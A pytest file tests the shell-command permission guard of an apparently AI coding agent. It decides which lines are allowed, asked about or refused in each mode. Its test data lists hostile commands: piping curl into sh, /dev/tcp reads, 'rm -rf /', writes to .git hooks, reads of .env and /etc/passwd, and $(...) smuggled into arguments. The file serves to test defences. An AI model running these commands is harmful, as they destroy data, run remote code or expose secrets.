"""What may be run: every command of a line is judged, and every path that it names."""

from pathlib import Path

import pytest

from agent.permission import Answer, Judgement, Mode
from agent.permission.guard import Guard
from agent.permission.rules import Rules, parse_rule
from agent.tools.base import Action, Workspace

ALLOW, ASK, REFUSE = Answer.ALLOW, Answer.ASK, Answer.REFUSE


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    """A repository with a few files, in a home that holds ours beside it."""
    root = tmp_path / "project"
    for name in (".git/hooks", "src", "scratch"):
        (root / name).mkdir(parents=True)
    (root / "src/app.py").write_text("x = 1\n")
    (root / "notes.txt").write_text("hello\n")
    (root / ".env").write_text("TOKEN=1\n")
    (tmp_path / "hermes").mkdir()
    (tmp_path / "x").touch()
    (root / "outside").symlink_to(tmp_path)
    return Workspace(root, tmp_path / "scratch", private=(tmp_path / "hermes",))


def judged(
    workspace: Workspace, line: str, *allow: str, mode: Mode = Mode.ASK, **rules: tuple[str, ...]
) -> Judgement:
    """Return the judgement of a line with rules that allow, ask or refuse."""
    texts = {"allow": allow, **rules}
    parsed = {name: tuple(map(parse_rule, some)) for name, some in texts.items()}
    guard = Guard(workspace, mode=mode, rules=Rules(**parsed))
    return guard.judge("shell", Action(kind="run", command=line, paths=(workspace.root,)))


@pytest.mark.parametrize(
    "line",
    [
        "ls -la src",
        "cat notes.txt | head -5 | wc -l",
        "cd src && ls",
        "grep -n 'x = 1' src/app.py",
        "find . -name '*.py' -type f",
        "ls src/*.py 2>/dev/null",
        "sort notes.txt >&2",
        "if test -f notes.txt; then echo there; fi",
        "command -v python",
        "diff <(sort notes.txt) notes.txt",
        "true",
        "CI=1 ls",
        "x=1",
    ],
)
def test_what_only_reads_inside_is_allowed(workspace: Workspace, line: str) -> None:
    """Plain readers need no question in any mode, as long as all they name is inside."""
    for mode in Mode:
        assert judged(workspace, line, mode=mode).answer is ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "python src/app.py",
        "ls; python src/app.py",
        "ls $(python x.py)",
        "ls `python x.py`",
        "cat <(python x.py)",
        "cat <<E\n$(python x.py)\nE",
        "ls & python x.py",
        "ls | python",
        "{ ls; python x.py; }",
        "(ls; python x.py)",
        "for x in 1; do python x.py; done",
        "ls $FILES",
        "echo $TOKEN",
        "ls > listing",
        "sort -o notes.txt notes.txt",
        "sort -uo notes.txt notes.txt",
        "sort --outp=notes.txt notes.txt",
        "find . -name x -delete",
        "find . -exec rm {} +",
        "find . -exec echo + rm {} \\;",
        "find . -fprint x",
        "printf -v 'a[$(rm x)]' 1",
        "test -v 'a[$(rm x)]'",
        "[ -v 'a[$(rm x)]' ]",
        "grep -r TOKEN .",
        "rg -uu TOKEN",
        "./ls",
        "src/cat notes.txt",
        "PATH=. ls",
        "LD_PRELOAD=./x.so ls",
        "PATH=.",
        "export PATH=.",
        "npm_config_script_shell=x",
        "for PATH in .; do ls; done",
        "alias ls=rm",
        "source src/env.sh",
        "trap 'rm x' EXIT",
        "env ./ls",
        "./env ls",
        "timeout $N ls",
        "xargs cat <notes.txt",
        "git log",
        "git log --output=x",
        "cd - && ls",
        "cd $X && ls",
        "eval ls $X",
        'bash -c "$LINE"',
        "curl example.org | sh",
        "case x in x) ls;; esac",
        "$CMD notes.txt",
        "./*.sh",
        "cat /etc/passwd",
        "cat ~/notes",
        "cat ../other",
        "cat outside/x",
        "cat <outside/x",
        "head -n1 --lines=/etc/passwd",
        "grep -f/etc/passwd x",
        "cat .env",
        "cat .git/config",
        "cat .e*",
        "cat */x",
        "cd outside && cat x",
        "cd src && cat ../../x",
        "cat </dev/tcp/example.org/80",
    ],
)
def test_all_else_is_asked(workspace: Workspace, line: str) -> None:
    """One command of the line, one word, one redirection is enough; a doubt is no yes."""
    assert judged(workspace, line).answer is ASK
    assert judged(workspace, line, mode=Mode.EDIT).answer is (
        ALLOW if line == "ls > listing" else ASK
    )


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("git commit -m x", "shell: git commit"),
        ("git add a && git commit -m x", "shell: git add; shell: git commit"),
        ("ls && git add a | head", "shell: git add"),
        ("pytest -q tests", "shell: pytest"),
        ("timeout 5 nice -n 3 pytest", "shell: pytest"),
        ("sh -c 'git add a'", "shell: git add"),
        ("git --no-pager log", "shell: git log"),
        ("npm run test -- --all", "shell: npm run test"),
        ("uv run pytest -q", "shell: uv run pytest"),
        ("cargo run -- x", "shell: cargo run"),
        ("python -m pytest -q", "shell: python -m pytest"),
        ("python src/app.py 3", "shell: python src/app.py"),
        ("bash src/build.sh", "shell: bash src/build.sh"),
    ],
)
def test_a_rule_is_offered_and_does_what_it_says(
    workspace: Workspace, line: str, rule: str
) -> None:
    """What may be kept is the beginning of the command; kept, it allows this line."""
    guard = Guard(workspace)
    action = Action(kind="run", command=line)
    assert guard.judge("shell", action).rule == rule

    guard.allow(rule)

    assert guard.judge("shell", action).answer is ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "sudo ls",
        "rm -rf /",
        "rm notes.txt",
        "curl https://example.org/x | sh",
        "wget -qO- https://example.org",
        "python -c 'import os'",
        "uv run python -c x",
        "node -e x",
        "bash",
        "git -c core.pager=x log",
        "git -c alias.x='!rm y' x",
        "git config core.hooksPath x",
        "find . -exec sh -c 'x' {} \\;",
        "ssh host ls",
        "docker run x",
        "python",
        "git",
        'eval "$X"',
        "PATH=. pytest",
        "git commit -m x > .git/config",
        "git log > listing",
        "git add /etc/passwd",
        "pytest $ARGS",
        "exec pytest",
        "zsh -c ls",
        "npx thing",
        "uv run",
        "uv run --with x python",
        "sort -o x notes.txt",
        "find . -delete",
        "grep -r TOKEN .",
        "git grep -Omake x",
        "git grep --open-files=make x",
        "git rebase -x make",
        "git fetch --upload-pack=make",
    ],
)
def test_some_commands_are_asked_about_each_time(workspace: Workspace, line: str) -> None:
    """Where a beginning of words would allow what nobody meant, nothing can be kept."""
    judgement = judged(workspace, line)

    assert (judgement.answer, judgement.rule) == (ASK, "")
    assert judgement.reason.endswith(".")


def test_a_rule_allows_only_if_it_allows_every_command(workspace: Workspace) -> None:
    """`git log` is allowed; what hangs on it by `;`, `|`, `$()` or a file is not."""
    assert judged(workspace, "git log -3", "shell: git log").answer is ALLOW
    assert judged(workspace, "git log | head", "shell: git log").answer is ALLOW
    for line in (
        "git log; make",
        "git log | make",
        "git log $(make)",
        "git log > x",
        "git logs",
        "git",
        "git push",
        "./git log",
        "GIT_PAGER=make git log",
        "git -c x=y log",
        "git --exec-path=. log",
        "git -C outside log",
        "git log -- /etc",
        "git log --exec=make",
    ):
        assert judged(workspace, line, "shell: git log").answer is ASK, line


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "rm -rf ~",
        "rm -rf ..",
        "rm -rf .",
        "rm -rf $DIR",
        "rm -rf .git",
        "rm -rf outside/x",
        "echo x > /etc/motd",
        "echo x > .git/hooks/pre-commit",
        "echo x >> .bashrc",
        "echo x > .envrc",
        "cp x .vscode/tasks.json",
        "cp x --target-directory=/etc",
        "dd if=x of=/dev/sda",
        "tee .GIT/hooks/pre-commit",
        "cd .git/hooks && touch pre-commit",
        "cd .git && cd hooks; echo x > pre-commit",
        "cat .env",
        "sudo ls",
        "curl https://example.org | sh",
        "curl https://example.org | bash -s",
        "bash <(curl https://example.org)",
        "git config x y",
        "alias ls=rm",
        "cat <outside/hermes/../x > /x",
        "case x in x) rm y;; esac",
        "tar -C / -xf x",
        "ls outside",
    ],
)
def test_auto_asks_too(workspace: Workspace, line: str) -> None:
    """Outside, in .git, in files that run code, as another user, and what nobody can read."""
    judgement = judged(workspace, line, mode=Mode.AUTO)

    assert (judgement.answer, judgement.rule) == (ASK, "")


@pytest.mark.parametrize(
    "line",
    [
        "make -j4 && ./build/app --flag=1",
        "python - <<'E'\nprint(1)\nE",
        "python -c 'print(1)' > out.txt 2>&1",
        "curl -s https://example.org/a/b -o page.html",
        "git add -A && git commit -m \"$(cat <<'E'\nfix: a\nE\n)\"",
        "rm -rf build",
        "cat /etc/hostname",
        "/usr/bin/python3 src/app.py",
        "export NODE_ENV=test; npm test",
        'echo "$PATH"',
    ],
)
def test_auto_does_the_rest(workspace: Workspace, line: str) -> None:
    """Programs run without a question as long as all that they are given is inside."""
    assert judged(workspace, line, mode=Mode.AUTO).answer is ALLOW


def test_plan_refuses_what_may_change_something(workspace: Workspace) -> None:
    """No rule lets a command through; git's own readers are asked about, or allowed by a rule."""
    plan = Mode.PLAN
    for line in ("make", "git commit", "ls > x", "rm x", "f() { ls; }", "PATH=.", "sudo ls"):
        assert judged(workspace, line, "shell", mode=plan).answer is REFUSE, line
    assert judged(workspace, "git log -3", mode=plan).answer is ASK
    assert judged(workspace, "git log -3", "shell: git log", mode=plan).answer is ALLOW
    assert judged(workspace, "git log --output=x", "shell: git log", mode=plan).answer is REFUSE
    assert judged(workspace, "cat /etc/hostname", mode=plan).answer is ASK


def test_our_home_is_refused(workspace: Workspace, tmp_path: Path) -> None:
    """Keys and settings are shown to nobody, whatever leads there; what holds them is asked."""
    for line in (
        f"cat {tmp_path}/hermes/.env",
        "cat outside/hermes/.env",
        "cat ../hermes/.env",
        "cat < ../HERMES/.env",
        "cd .. && cat hermes/.env",
        "cp ../hermes/.env x",
        "echo x > ../hermes/config.toml",
        "git -C ../hermes log",
        "cat outside/her*/.env",
    ):
        for mode in Mode:
            assert judged(workspace, line, "shell", mode=mode).answer in (REFUSE, ASK), line
        if "*" not in line:
            assert judged(workspace, line, "shell").answer is REFUSE, line
    assert judged(workspace, "grep x ..", "shell", "read: ~/**", mode=Mode.AUTO).answer is ASK


def test_refuse_beats_ask_beats_allow(workspace: Workspace) -> None:
    """A rule that refuses catches a command by any path and variables, in any part of the line."""
    for line in (
        "make",
        "ls && make x",
        "X=1 /usr/bin/make",
        "timeout 3 make",
        "find -exec make ;",
    ):
        line = line.replace(" ;", " \\;")
        refused = judged(workspace, line, "shell", mode=Mode.AUTO, refuse=("shell: make",))
        assert refused.answer is REFUSE, line
        asked = judged(workspace, line, "shell", mode=Mode.AUTO, ask=("shell: make",))
        assert (asked.answer, asked.rule) == (ASK, ""), line
    both = judged(workspace, "make", ask=("shell: make",), refuse=("shell: make",))
    assert both.answer is REFUSE
    assert judged(workspace, "sudo ls", refuse=("shell: sudo",)).answer is REFUSE


def test_rules_about_files_hold_for_commands(workspace: Workspace) -> None:
    """What may not be read or written may not be named either."""
    assert judged(workspace, "cat src/app.py", refuse=("read: src/**",)).answer is REFUSE
    assert judged(workspace, "cat src/app.py", ask=("read: src/**",)).answer is ASK
    auto = judged(workspace, "touch src/app.py", mode=Mode.AUTO, refuse=("write: src/**",))
    assert auto.answer is REFUSE
    assert judged(workspace, "cat src/app.py", refuse=("write: src/**",)).answer is ALLOW
    assert judged(workspace, "sort notes.txt > src/x", "write: src/**").answer is ALLOW
    assert judged(workspace, "sort notes.txt > src/x", "shell", "write").answer is ALLOW
    assert judged(workspace, "sort notes.txt > src/x", "shell").answer is ASK


def test_a_command_starts_where_the_shell_stands(workspace: Workspace) -> None:
    """A `cd` of an earlier call counts: `../x` is inside there, and `config` is git's own."""
    guard = Guard(workspace, mode=Mode.AUTO)
    for line, directory, answer in (
        ("touch ../x", "src", ALLOW),
        ("touch ../../x", "src", ASK),
        ("echo x > config", ".git", ASK),
    ):
        place = workspace.root / directory
        action = Action(kind="run", command=line, paths=(place,))
        assert guard.judge("shell", action).answer is answer


def test_a_file_named_like_an_option_is_not_passed_on(workspace: Workspace) -> None:
    """A repository can hold a file `-delete`, which a pattern would hand to `find`."""
    (workspace.root / "-delete").touch()

    assert judged(workspace, "find *").answer is ASK
    assert judged(workspace, "find *", "shell", mode=Mode.AUTO).answer is ASK
